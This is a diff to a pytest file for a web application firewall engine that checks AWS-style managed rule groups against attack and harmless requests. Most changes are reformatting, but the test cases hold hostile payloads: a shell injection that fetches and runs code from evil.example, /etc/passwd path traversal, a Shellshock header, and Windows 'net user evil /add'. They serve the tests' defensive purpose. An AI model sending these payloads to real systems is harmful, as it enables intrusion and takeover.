@@ -4,7 +4,6 @@ from functools import cache
 
 import pytest
 from msgspec import structs
-from web_acls import NOW, Kept, World, group_rule, managed_group, ruleset
 
 from masugata.engines.waf.addresses import AddressSet
 from masugata.engines.waf.capacity import capacity
@@ -13,6 +12,7 @@ from masugata.engines.waf.errors import RulesetError
 from masugata.engines.waf.managed import catalogue, default_groups, managed_groups
 from masugata.engines.waf.plan import compile_plan
 from masugata.engines.waf.request import WebRequest
+from web_acls import NOW, Kept, World, group_rule, managed_group, ruleset
 
 GROUPS = managed_groups()
 NAMES = sorted(name for _, name in catalogue(GROUPS))
@@ -100,7 +100,11 @@ CASES = [
     ("Linux", "LFI_QueryString", sent(query="f=/proc/version")),
     ("Linux", "LFI_Header", sent(headers=((b"x-file", b"../../../../etc/passwd"),))),
     ("Unix", "UNIXShellCommandsVariables_QueryString", sent(query=f"h={SHELL}")),
-    ("Unix", "UNIXShellCommandsVariables_Body", sent(body=b"h=%3Bwget+http%3A%2F%2Fevil.example%2Fx+-O-%7Csh")),
+    (
+        "Unix",
+        "UNIXShellCommandsVariables_Body",
+        sent(body=b"h=%3Bwget+http%3A%2F%2Fevil.example%2Fx+-O-%7Csh"),
+    ),
     ("Unix", "UNIXShellCommandsVariables_Header", sent(headers=((b"x-h", b"() { :; }; /bin/id"),))),
     ("Windows", "WindowsShellCommands_QueryArguments", sent(query="h=%26%26net+user+evil+/add")),
     ("Windows", "WindowsShellCommands_Body", sent(body=b"h=%7C%7Ccmd.exe+/c+dir")),
@@ -114,7 +118,11 @@ CASES = [
 HARMLESS = [
     sent("/shop/socks", "q=O%27Brien&sort=price&page=2"),
     sent("/search", "q=select+a+dress+from+the+union+of+styles"),
-    sent("/profile", body=b"name=Mary+O%27Hara&about=I+like+cats+%26+dogs%3B+ls+is+short+for+list", method=b"POST"),
+    sent(
+        "/profile",
+        body=b"name=Mary+O%27Hara&about=I+like+cats+%26+dogs%3B+ls+is+short+for+list",
+        method=b"POST",
+    ),
     sent("/cms", body=b"html=%3Cp+class%3D%22a%22%3E%3Cb%3EHello%3C%2Fb%3E%3C%2Fp%3E", method=b"POST"),
     sent("/login", "next=https%3A%2F%2Fshop.example%2Faccount%3Ftab%3D1"),
     sent("/%E3%81%93%E3%82%93", "q=%E6%97%A5%E6%9C%AC%E8%AA%9E"),
@@ -152,7 +160,7 @@ def test_sizes_at_their_limits() -> None:
 
 @pytest.mark.parametrize("name", NAMES)
 def test_names_are_unique_and_overridable(name) -> None:
-    """Every rule of a group, and each of AWS's limits on names, holds; an override of any of them compiles."""
+    """No two rules share a name, all have labels, and an override of any of them compiles."""
     group = GROUPS["AWS", name, None]
     names = [rule.name for rule in group.rules]
     assert len(set(names)) == len(names)
@@ -186,14 +194,17 @@ def test_groups_that_there_are_not(name) -> None:
 
 
 def test_the_default_groups_only_count_sizes() -> None:
-    """A large upload, and a server that is tried out on the machine itself, pass the default; attacks do not."""
+    """A large upload, and a server that is tried out on the machine itself, pass; attacks do not."""
     asked = ruleset(body_limit=65_536)
     acl = structs.replace(asked.web_acl, rules=default_groups())
     found = compile_plan(structs.replace(asked, web_acl=acl), managed=GROUPS, databases=KEPT)
     large = sent(body=b"a=" + b"b" * 60_000, method=b"POST", headers=((b"host", b"localhost:8080"),))
     decision = found.evaluate(large, World().environment, NOW)
     assert decision.action == "ALLOW"
-    assert {match.rule_in_group for match in decision.counted} == {"SizeRestrictions_BODY", "Host_localhost_HEADER"}
+    assert {match.rule_in_group for match in decision.counted} == {
+        "SizeRestrictions_BODY",
+        "Host_localhost_HEADER",
+    }
     attack = sent(query=f"q={XSS}")
     assert found.evaluate(attack, World().environment, NOW).action == "BLOCK"
     assert capacity(default_groups(), managed=GROUPS) == 700 + 200 + 200 + 200 + 100 + 100 + 200
